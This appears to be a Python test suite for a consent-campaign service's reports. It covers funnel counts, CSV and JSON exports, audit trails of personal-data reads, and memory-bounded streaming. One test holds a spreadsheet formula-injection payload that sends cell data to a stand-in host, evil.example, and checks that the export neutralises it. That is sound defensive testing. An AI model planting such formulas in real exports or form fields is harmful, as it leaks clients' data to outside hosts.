"""Campaign reports as a client downloads them: funnel counts after real journeys, the CSV and
JSON of collected contacts, and a 10,000-row report streamed over HTTP in bounded memory."""

import csv
import io
import tracemalloc
import uuid
from datetime import date, datetime

import httpx
from sqlalchemy import text

from db.session import transaction
from tests.helpers import AppServer, Customer, Tenant, eventually, on_the_page, unique_email



async def walk_three_customers(tenant: Tenant, http, mailbox) -> tuple[dict, list[str]]:
    """One verifies, one opts out, one never opens: the funnel narrows step by step."""
    campaign = await tenant.create_campaign(languages=["en"])
    addresses = [unique_email("verifies"), unique_email("opts-out"), unique_email("ignores")]
    enrolled = await tenant.enrol(campaign["id"], *(
        {"external_id": f"f-{i}", "first_name": f"N{i}", "email": a}
        for i, a in enumerate(addresses)))
    journeys = [r["journey_id"] for r in enrolled["results"]]

    invitation = (await mailbox.wait_for(addresses[0]))[0]
    customer = Customer(http)
    await customer.open(mailbox.link(invitation))
    await customer.submit(mailbox.link(invitation), email=addresses[0],
                          consent=["terms", "newsletter"])
    verification = (await mailbox.wait_for(addresses[0], count=2))[-1]
    await customer.open(mailbox.link(verification))
    await customer.submit(mailbox.link(verification))

    leaving = Customer(http)
    invitation = (await mailbox.wait_for(addresses[1]))[0]
    await leaving.open(mailbox.link(invitation))
    await leaving.submit(mailbox.link(invitation) + "/opt-out")
    await mailbox.wait_for(addresses[2])
    await tenant.wait_for_stage(journeys[0], "verified")
    await tenant.wait_for_stage(journeys[1], "opted_out")
    await tenant.wait_for_stage(journeys[2], "invited")
    return campaign, journeys


async def test_funnel_and_reports_of_a_campaign(tenant, other_tenant, http, mailbox):
    campaign, journeys = await walk_three_customers(tenant, http, mailbox)
    base = f"/v1/campaigns/{campaign['id']}"

    funnel = await tenant.ok("GET", f"{base}/funnel")
    expected = {"invited": 3, "opened": 2, "entered": 1, "verified": 1, "expired": 0,
                "opted_out": 1, "cancelled": 0, "bounced_hard": 0, "bounced_soft": 0,
                "complaints": 0}
    assert funnel["total"] == expected
    assert funnel["by_channel"] == {"email": expected}
    assert (funnel["journeys"], funnel["finished"], funnel["running"]) == (3, 2, 1)

    response = await tenant.get(f"{base}/report.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert row["journey_id"] == journeys[0] and row["external_id"] == "f-0"
    assert row["stage"] == "verified" and row["email_state"] == "verified"
    assert (row["mobile"], row["mobile_state"], row["address.line1"]) == ("", "", "")
    assert row["submitted_at"] and row["verified_at"] and row["ip"] == "203.0.113.7"
    assert row["consent.terms"] == "granted" and row["consent.terms.version"] == "2026-1"
    assert row["consent.newsletter"] == "granted" and len(row["consent.newsletter.sha256"]) == 64
    assert row["consent.terms.language"] == "en"
    assert row["consent.terms.given_at"] == row["submitted_at"]

    report = (await tenant.get(f"{base}/report.json")).json()
    assert report["campaign"]["id"] == campaign["id"]
    [entry] = report["rows"]
    assert entry["email"] == row["email"]
    assert {c["key"]: c["granted"] for c in entry["consents"]} == {"terms": True,
                                                                  "newsletter": True}
    assert all(c["given_at"] == entry["submitted_at"] for c in entry["consents"])

    for path in ("funnel", "report.csv", "report.json"):
        assert (await other_tenant.get(f"{base}/{path}")).status_code == 404


async def test_reads_outside_the_contact_routes_are_in_the_audit_trail(
        tenant, other_tenant, http, mailbox):
    """Journeys, the consent ledger, bounces and the reports show personal data: each read is
    in the contact's audit trail, naming the route, as a read of the contact itself is."""
    campaign, journeys = await walk_three_customers(tenant, http, mailbox)
    verified = await tenant.journey(journeys[0])
    ignored = await tenant.journey(journeys[2])
    base = f"/v1/campaigns/{campaign['id']}"

    async def vias(journey: dict, action: str) -> set[str]:
        trail = (await tenant.get(f"/v1/contacts/{journey['contact_id']}/audit",
                                  limit=1000)).json()["items"]
        return {e["detail"]["via"] for e in trail
                if e["action"] == action and "via" in (e["detail"] or {})}

    await tenant.ok("GET", f"{base}/journeys")
    contact = f"/v1/contacts/{verified['contact_id']}"
    for path in ("consents", "preferences", "consent-receipt", "gdpr-consent"):
        await tenant.ok("GET", f"{contact}/{path}")
    [email] = [p["value"] for p in (await tenant.ok(
        "GET", f"/v1/contacts/{ignored['contact_id']}"))["contact_points"]]
    [invitation] = mailbox.to(email)
    await tenant.ok("POST", "/v1/bounces", {"message_id": invitation.headers["Message-ID"],
                                            "recipient": email, "kind": "hard",
                                            "reason": "550 no such user"}, status=202)
    await tenant.ok("GET", f"{base}/bounces")
    assert (await tenant.get(f"{base}/report.csv")).status_code == 200
    assert (await tenant.get(f"{base}/report.json")).status_code == 200
    assert (await tenant.get(f"{base}/bounces.csv")).status_code == 200

    assert await vias(verified, "read") == {
        "/v1/journeys/{journey_id}", "/v1/campaigns/{campaign_id}/journeys",
        "/v1/contacts/{contact_id}/consents", "/v1/contacts/{contact_id}/preferences",
        "/v1/contacts/{contact_id}/consent-receipt", "/v1/contacts/{contact_id}/gdpr-consent"}
    assert await vias(verified, "export") == {"/v1/campaigns/{campaign_id}/report.csv",
                                              "/v1/campaigns/{campaign_id}/report.json"}
    # Only what was shown: the customer who never entered data is in no report, only in the
    # list of bounces.
    assert "/v1/campaigns/{campaign_id}/bounces" in await vias(ignored, "read")
    assert await vias(ignored, "export") == {"/v1/campaigns/{campaign_id}/bounces.csv"}
    # A read another client attempted is no read.
    assert (await other_tenant.get(f"/v1/journeys/{journeys[0]}")).status_code == 404
    trail = (await tenant.get(f"{contact}/audit", limit=1000)).json()["items"]
    assert {e["actor_id"] for e in trail if e["actor_type"] == "api_key"} == {
        trail[0]["actor_id"]}


BULK = 10_000


async def insert_collected_journeys(sessions, tenant: Tenant, campaign_id: str, count: int) -> None:
    """Verified journeys with two consents each, straight into PostgreSQL."""
    salt = uuid.uuid4().hex
    params = {"client": str(tenant.id), "campaign": campaign_id, "salt": salt, "n": count}
    async with transaction(sessions) as session:
        await session.execute(text("""
            INSERT INTO contacts (id, client_id, external_id, kind, first_name, last_name,
                                  language, created_at, updated_at)
            SELECT md5(:salt || 'c' || g)::uuid, CAST(:client AS uuid), 'bulk-' || :salt || g,
                   'person', 'First' || g, 'Last' || g, 'en', now(), now()
            FROM generate_series(1, :n) g"""), params)
        await session.execute(text("""
            INSERT INTO journeys (id, client_id, campaign_id, contact_id, workflow_id, stage,
                                  language, collected, created_at, updated_at, finished_at)
            SELECT md5(:salt || 'j' || g)::uuid, CAST(:client AS uuid), CAST(:campaign AS uuid),
                   md5(:salt || 'c' || g)::uuid, 'bulk/' || :salt || '/' || g, 'verified', 'en',
                   json_build_object('email', 'bulk-' || g || '@example.com',
                       'submitted_at', '2026-11-01T10:00:00+00:00',
                       'submission_step', 'submission-1', 'ip', '198.51.100.' || (g % 250),
                       'user_agent', 'Mozilla/5.0 (bulk)'),
                   now(), now(), now()
            FROM generate_series(1, :n) g"""), params)
        await session.execute(text("""
            INSERT INTO consent_events (id, client_id, contact_id, journey_id, step, checkbox_key,
                purpose, channel, granted, given_at, recorded_at, source, legal_text,
                legal_text_language, legal_text_version, legal_text_sha256, ip, user_agent)
            SELECT md5(:salt || k || g)::uuid, CAST(:client AS uuid), md5(:salt || 'c' || g)::uuid,
                   md5(:salt || 'j' || g)::uuid, 'submission-1', k, k, 'email', g % 3 > 0,
                   '2026-11-01T10:00:00+00:00', now(), 'contact_page', 'Legal text ' || k, 'en',
                   '1', md5(k), '198.51.100.1', 'Mozilla/5.0 (bulk)'
            FROM generate_series(1, :n) g, (VALUES ('terms'), ('newsletter')) AS boxes(k)"""),
            params)


async def download_peak(port: int, tenant: Tenant, campaign_id: str) -> tuple[int, int, int]:
    """Downloads a CSV report; returns (peak traced memory, bytes, lines)."""
    size, lines = 0, 0
    tracemalloc.start()
    try:
        async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}", timeout=60) as client:
            async with client.stream("GET", f"/v1/campaigns/{campaign_id}/report.csv",
                                     headers=tenant.auth) as response:
                assert response.status_code == 200
                async for chunk in response.aiter_text():
                    size += len(chunk)
                    lines += chunk.count("\n")
        return tracemalloc.get_traced_memory()[1], size, lines
    finally:
        tracemalloc.stop()


async def test_report_of_10000_journeys_streams_in_bounded_memory(tenant, app, sessions):
    small = await tenant.create_campaign(languages=["en"])
    big = await tenant.create_campaign(languages=["en"])
    await insert_collected_journeys(sessions, tenant, small["id"], BULK // 10)
    await insert_collected_journeys(sessions, tenant, big["id"], BULK)

    # Over a real socket: an in-process transport would collect the whole body first.
    server = AppServer(app=app)
    await server.start()
    try:
        small_peak, small_size, small_lines = await download_peak(server.port, tenant, small["id"])
        big_peak, big_size, big_lines = await download_peak(server.port, tenant, big["id"])
    finally:
        await server.stop()
    # A header and one line per journey (no field holds a newline).
    assert (small_lines, big_lines) == (BULK // 10 + 1, BULK + 1)
    # Constant memory: ten times the rows (megabytes more report) cost next to no more
    # memory; a report built before sending would need at least the extra bytes. Half of
    # them, not less: garbage the collector has not yet reached and the test client's own
    # buffers move the peak by a few hundred kilobytes from run to run.
    assert big_size - small_size > 2_000_000
    assert big_peak - small_peak < (big_size - small_size) / 2, (small_peak, big_peak)


async def test_bounces_csv_of_a_campaign_with_thousands_of_bounces_downloads_whole(
        tenant, sessions):
    """A large campaign's bounces come out a partition at a time: the download goes on past the
    first partition to the last bounce."""
    campaign = await tenant.create_campaign(languages=["en"])
    count = 1_200  # more than two partitions
    await insert_collected_journeys(sessions, tenant, campaign["id"], count)
    params = {"client": str(tenant.id), "campaign": campaign["id"]}
    async with transaction(sessions) as session:
        await session.execute(text("""
            INSERT INTO messages (id, client_id, journey_id, step, channel, template, recipient,
                                  status, created_at, sent_at)
            SELECT gen_random_uuid(), client_id, id, 'invitation-1', 'email', 'invitation',
                   collected ->> 'email', 'sent', now(), now()
            FROM journeys WHERE campaign_id = CAST(:campaign AS uuid)"""), params)
        await session.execute(text("""
            INSERT INTO message_bounces (client_id, campaign_id, journey_id, message_id, channel,
                                         recipient, kind, reason, source, at)
            SELECT m.client_id, CAST(:campaign AS uuid), m.journey_id, m.id, 'email',
                   m.recipient, 'hard', '550 5.1.1 user unknown', 'smtp', now()
            FROM messages m JOIN journeys j ON j.id = m.journey_id
            WHERE j.campaign_id = CAST(:campaign AS uuid)"""), params)

    response = await tenant.get(f"/v1/campaigns/{campaign['id']}/bounces.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == count
    assert len({r["journey_id"] for r in rows}) == count
    assert {(r["step"], r["kind"], r["reason"]) for r in rows} == {
        ("invitation-1", "hard", "550 5.1.1 user unknown")}


async def test_what_a_customer_typed_cannot_run_as_a_formula(tenant, sessions):
    """A personal link's holder controls the user agent the report shows: in the client's
    spreadsheet it is text, not a formula that sends the sheet away."""
    campaign = await tenant.create_campaign(languages=["en"])
    await insert_collected_journeys(sessions, tenant, campaign["id"], 1)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    async with transaction(sessions) as session:
        await session.execute(text(
            "UPDATE journeys SET collected = jsonb_set(collected::jsonb, '{user_agent}', "
            "to_jsonb(CAST(:ua AS text)))::json WHERE campaign_id = CAST(:c AS uuid)"),
            {"ua": formula, "c": campaign["id"]})
        await session.execute(text(
            "UPDATE contacts SET last_name = '@SUM(1+1)' WHERE id IN (SELECT contact_id FROM "
            "journeys WHERE campaign_id = CAST(:c AS uuid))"), {"c": campaign["id"]})
    report = (await tenant.get(f"/v1/campaigns/{campaign['id']}/report.csv")).text
    [row] = csv.DictReader(io.StringIO(report))
    assert (row["user_agent"], row["last_name"]) == ("'" + formula, "'@SUM(1+1)")


async def test_a_consent_taken_off_the_campaign_stays_in_its_csv(tenant, http, mailbox):
    """A customer granted the newsletter, then the client took its checkbox off the campaign:
    the CSV lost every consent.newsletter column (the JSON kept it). The consents the journeys
    recorded keep their columns, after the campaign's current ones."""
    campaign = await tenant.create_campaign(languages=["en"])
    address = unique_email("taken-off")
    _, customer, page = await on_the_page(tenant, http, mailbox, campaign, address)
    await customer.submit(page, email=address, consent=["terms", "newsletter"])
    base = f"/v1/campaigns/{campaign['id']}"

    async def collected() -> list | None:
        return (await tenant.ok("GET", f"{base}/report.json"))["rows"] or None
    await eventually(collected, what="the submission in the report")
    [terms, _] = campaign["spec"]["consents"]
    await tenant.ok("PATCH", base, {"consents": [terms]})

    response = await tenant.get(f"{base}/report.csv")
    reader = csv.DictReader(io.StringIO(response.text))
    [row] = list(reader)
    consent_columns = [c for c in reader.fieldnames if c.startswith("consent.")]
    assert consent_columns[0] == "consent.terms" and consent_columns[5] == "consent.newsletter"
    assert row["consent.newsletter"] == "granted" and row["consent.newsletter.version"] == "3"


async def test_a_reconsent_campaigns_funnel_counts_its_invitations_and_answers(
        tenant, sessions, http, mailbox):
    """A re-consent run invites by its own messages and ends in an answer: by channel they are
    counted as invited, and accepted and rejected are steps of its funnel (JSON, CSV and the
    dashboard), as paid is of a payment-reminder campaign."""
    from db.models import Contact, ContactPoint
    from tests.test_dashboard import BAR
    from tests.test_reconsent import reconsent_campaign, run_reconsent
    addresses = [unique_email("accepts"), unique_email("rejects"), unique_email("silent")]
    async with transaction(sessions) as session:
        for n, address in enumerate(addresses):
            contact = Contact(client_id=tenant.id, external_id=f"rc-{n}", language="en",
                              gdpr_consent_state="accepted")
            session.add(contact)
            await session.flush()
            session.add(ContactPoint(client_id=tenant.id, contact_id=contact.id, kind="email",
                                     value=address))
    campaign = await reconsent_campaign(tenant)
    await run_reconsent(tenant, campaign["id"])
    for address, answer in zip(addresses, ("accept", "reject")):
        [invitation] = await mailbox.wait_for(address, timeout=60)
        customer = Customer(http)
        await customer.open(mailbox.link(invitation))
        await customer.submit(mailbox.link(invitation), answer=answer)
    await mailbox.wait_for(addresses[2], timeout=60)
    base = f"/v1/campaigns/{campaign['id']}"

    async def answered():
        funnel = await tenant.ok("GET", f"{base}/funnel")
        total = funnel["total"]
        return funnel if (total["invited"], total["accepted"], total["rejected"]) == (
            3, 1, 1) else None
    funnel = await eventually(answered, what="both answers counted")
    expected = {"invited": 3, "opened": 2, "entered": 0, "verified": 0, "expired": 0,
                "opted_out": 0, "cancelled": 0, "accepted": 1, "rejected": 1,
                "bounced_hard": 0, "bounced_soft": 0, "complaints": 0}
    assert funnel["total"] == expected
    assert funnel["by_channel"] == {"email": expected}
    assert (funnel["journeys"], funnel["finished"], funnel["running"]) == (3, 2, 1)

    rows = list(csv.DictReader(io.StringIO((await tenant.get(f"{base}/funnel.csv")).text)))
    assert [(r["channel"], r["language"]) for r in rows] == [("email", "en"), ("*", "*")]
    for row in rows:
        assert (row["invited"], row["accepted"], row["rejected"]) == ("3", "1", "1"), row
        assert "paid" not in row

    link = await tenant.ok("POST", "/v1/dashboard-links", status=201)
    page = (await http.get(link["url"].removeprefix("http://testserver"))).text
    bars = {step: int(width) for width, step in BAR.findall(page)}
    # A third of the journeys each: 220 of the chart's width.
    assert bars["accepted"] == bars["rejected"] == round(220 / 3) and bars["invited"] == 220
    assert "Accepted" in page and "Rejected" in page and "paid" not in bars


async def test_a_contact_enrolled_again_has_a_row_per_round(tenant, http, mailbox):
    """The report's rows are journeys: a contact whose first round expired after it left data
    and who left data again in a second round has two rows, each naming its journey and when
    its round began, so a client can keep the newest per contact."""
    campaign = await tenant.create_campaign(expires_after="PT4S",
                                            reminders={"interval": "PT1H", "max_count": 0})
    address = unique_email("twice")
    typed = [unique_email("first-round"), unique_email("second-round")]
    journeys = []
    for n, email in enumerate(typed):
        [r] = (await tenant.enrol(campaign["id"], {"external_id": "tw-1", "email": address}))[
            "results"]
        journeys.append(r["journey_id"])
        page = mailbox.link((await mailbox.wait_for(address, count=n + 1))[-1])
        customer = Customer(http)
        await customer.open(page)
        await customer.submit(page, email=email, consent=["terms"])
        if n == 0:
            await tenant.wait_for_stage(r["journey_id"], "expired", timeout=30)
    await tenant.wait_for_stage(journeys[1], "verification_pending")
    base = f"/v1/campaigns/{campaign['id']}"
    rows = list(csv.DictReader(io.StringIO((await tenant.get(f"{base}/report.csv")).text)))
    assert len({r["contact_id"] for r in rows}) == 1
    by_round = sorted(rows, key=lambda r: r["enrolled_at"])
    assert [(r["journey_id"], r["stage"], r["email"]) for r in by_round] == [
        (journeys[0], "expired", typed[0]), (journeys[1], "verification_pending", typed[1])]
    started = {j: datetime.fromisoformat((await tenant.journey(j))["created_at"])
               for j in journeys}
    assert {r["journey_id"]: datetime.fromisoformat(r["enrolled_at"]) for r in rows} == started
    entries = (await tenant.get(f"{base}/report.json")).json()["rows"]
    assert {e["journey_id"]: datetime.fromisoformat(e["enrolled_at"])
            for e in entries} == started


async def test_report_json_is_documented_and_a_csv_may_start_with_a_bom(tenant, http, mailbox):
    """A client integrating report.json finds its schema in the OpenAPI document, and the
    documents it gets read by it (a payment-reminder campaign's too). The CSVs are plain UTF-8
    for programs; `?bom=true` starts them with a byte order mark, for Excel."""
    from api.routes.reports import ReportDocument
    from tests.test_payment_journey import claim, paid
    openapi = (await http.get("/openapi.json")).json()
    report = openapi["paths"]["/v1/campaigns/{campaign_id}/report.json"]["get"]
    assert report["responses"]["200"]["content"]["application/json"]["schema"] == {
        "$ref": "#/components/schemas/ReportDocument"}
    row = openapi["components"]["schemas"]["ReportRow"]
    assert {"enrolled_at", "consents", "email_state", "paid", "claim_amount", "due_on",
            "withdrawn", "withdrawn_at"} <= set(row["properties"])

    campaign, journeys = await walk_three_customers(tenant, http, mailbox)
    base = f"/v1/campaigns/{campaign['id']}"
    document = ReportDocument.model_validate((await tenant.get(f"{base}/report.json")).json())
    assert [str(r.journey_id) for r in document.rows] == [journeys[0]]
    assert {c.key: c.legal_text_version for c in document.rows[0].consents}["terms"] == "2026-1"
    payments = await tenant.create_campaign(payments=True)
    [r] = (await tenant.enrol(payments["id"], {"external_id": "pays", "email": unique_email(),
                                               "claim": claim(1)}))["results"]
    await paid(tenant, r["journey_id"], amount="125.50")
    [row] = ReportDocument.model_validate((await tenant.get(
        f"/v1/campaigns/{payments['id']}/report.json")).json()).rows
    assert (row.paid, row.amount, row.reference, row.email) == (True, "125.50", "INV-1", None)
    assert (row.claim_amount, row.due_on, row.withdrawn) == ("125.50", date(2099, 12, 31), False)

    for name in ("report.csv", "bounces.csv", "funnel.csv"):
        plain = (await tenant.get(f"{base}/{name}")).content
        assert not plain.startswith(b"\xef\xbb\xbf"), name
        marked = (await tenant.get(f"{base}/{name}", bom="true")).content
        assert marked == b"\xef\xbb\xbf" + plain, name
        assert next(csv.reader(io.StringIO(marked.decode("utf-8-sig"))))[0] in (
            "journey_id", "at", "channel")
